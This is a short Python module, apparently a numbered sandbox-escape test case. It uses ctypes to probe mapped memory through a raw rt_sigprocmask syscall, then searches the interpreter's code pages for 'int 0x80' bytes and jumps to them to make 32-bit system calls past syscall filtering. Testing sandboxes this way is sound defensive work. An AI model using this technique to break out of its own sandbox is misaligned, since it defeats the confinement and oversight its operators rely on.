"""Jumps to bytes in the interpreter's own code that make a 32-bit system call: int 0x80. Class D85."""

import sys

ctypes = sys.modules["ctypes"]
libc = ctypes.CDLL(None)
PAGE, CODE = 4096, b"\xcd\x80"


def is_mapped(address):
    """rt_sigprocmask reads its set before it looks at `how`."""
    libc.syscall(14, 99, ctypes.c_void_p(address), 0, 8)
    return ctypes.get_errno() != 14


def attack(bait):
    global libc
    libc = ctypes.CDLL(None, use_errno=True)
    for name in ("PyEval_EvalCode", "PyLong_FromLong"):
        start = ctypes.cast(getattr(ctypes.pythonapi, name), ctypes.c_void_p).value // PAGE * PAGE
        for page in range(start, start + 512 * PAGE, PAGE):
            if not is_mapped(page):
                break
            place = ctypes.string_at(page, PAGE).find(CODE)
            if place >= 0:
                return ctypes.CFUNCTYPE(ctypes.c_long)(page + place)()
    return "no such bytes"
